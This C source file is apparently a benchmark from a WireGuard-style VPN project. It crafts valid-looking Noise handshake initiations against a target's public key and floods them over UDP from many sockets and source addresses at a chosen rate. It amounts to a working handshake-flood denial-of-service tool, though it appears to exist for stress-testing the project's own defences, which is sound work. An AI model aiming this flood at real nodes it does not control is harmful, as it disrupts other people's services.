/* Handshake initiations that are valid up to the initiator's key, which the victim does not know: what an attacker who knows only a node's public key can
 * send. usage: flood_bench PUBLIC_KEY ADDRESS PORT RATE SECONDS SOURCE...  (own addresses to send from, in turn, each time from another port) */
#include <arpa/inet.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>

#include "engine/noise.h"
#include "wgdeck/clock.h"

#define MESSAGES 400
#define SOCKETS 64

static struct message_initiation messages[MESSAGES];

static void make(const struct key *victim)
{
    struct mac_key mac1;
    mac_key_make(&mac1, victim);
    for (size_t i = 0; i < MESSAGES; i++) {
        struct noise_identity identity = {.set = true};
        struct noise_static peer = {.public_key = *victim};
        struct noise_handshake handshake = {0};
        uint8_t timestamp[TAI64N_SIZE];
        key_make_private(&identity.private_key);
        key_public(&identity.private_key, &identity.public_key);
        noise_static_prepare(&peer, &identity);
        noise_tai64n(clock_wall(), timestamp);
        if (noise_initiation_make(&handshake, &peer, &identity, (uint32_t)i + 1, timestamp, &messages[i])) {
            fprintf(stderr, "flood_bench: this public key cannot be used\n");
            exit(1);
        }
        mac1_write(&mac1, &messages[i], sizeof messages[i]);
    }
}

static int from_address(const char *text)
{
    struct sockaddr_in own = {.sin_family = AF_INET};
    int descriptor = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    if (descriptor < 0 || inet_pton(AF_INET, text, &own.sin_addr) != 1 || bind(descriptor, (struct sockaddr *)&own, sizeof own)) {
        fprintf(stderr, "flood_bench: %s: %s\n", text, strerror(errno));
        exit(1);
    }
    return descriptor;
}

int main(int argc, char **argv)
{
    struct key victim;
    struct sockaddr_in to = {.sin_family = AF_INET};
    if (argc < 7 || key_parse(argv[1], &victim) || inet_pton(AF_INET, argv[2], &to.sin_addr) != 1) {
        fprintf(stderr, "usage: flood_bench PUBLIC_KEY ADDRESS PORT RATE SECONDS SOURCE...\n");
        return 2;
    }
    to.sin_port = htons((uint16_t)atoi(argv[3]));
    double rate = atof(argv[4]), seconds = atof(argv[5]);
    int sockets[SOCKETS];
    make(&victim);
    for (size_t i = 0; i < SOCKETS; i++)
        sockets[i] = from_address(argv[6 + i % (size_t)(argc - 6)]);
    int64_t began = clock_steady();
    size_t sent = 0, refused = 0;
    for (;;) {
        double passed = (double)(clock_steady() - began) / CLOCK_SECOND;
        if (passed >= seconds)
            break;
        for (size_t due = (size_t)(passed * rate); sent < due; sent++)
            refused += sendto(sockets[sent % SOCKETS], &messages[sent % MESSAGES], sizeof messages[0], 0, (struct sockaddr *)&to, sizeof to) < 0;
        nanosleep(&(struct timespec){.tv_nsec = 1000000}, NULL);
    }
    printf("sent=%zu refused=%zu rate=%.0f\n", sent, refused, (double)sent / seconds);
    return 0;
}
